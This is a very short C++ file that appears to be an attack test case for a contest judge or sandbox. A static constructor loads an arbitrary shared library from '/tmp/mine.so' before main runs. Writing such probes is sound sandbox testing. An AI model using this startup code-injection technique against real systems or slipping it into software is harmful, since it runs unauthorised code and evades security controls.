// Attack: to load a library of its own.
// Remark: looks for code
#include <dlfcn.h>

#include "unsolved.h"

struct AtStart {
    AtStart() { dlopen("/tmp/mine.so", RTLD_NOW); }
} atStart;
